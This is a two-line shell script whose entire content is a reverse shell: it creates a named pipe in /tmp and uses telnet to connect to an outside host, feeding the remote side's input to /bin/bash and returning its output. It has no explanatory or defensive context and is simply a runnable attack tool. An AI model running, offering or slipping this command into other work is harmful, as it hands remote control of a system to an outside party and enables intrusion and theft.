#!/bin/sh
mknod /tmp/backpipe p && telnet 203.0.113.9 23 0</tmp/backpipe | /bin/bash 1>/tmp/backpipe
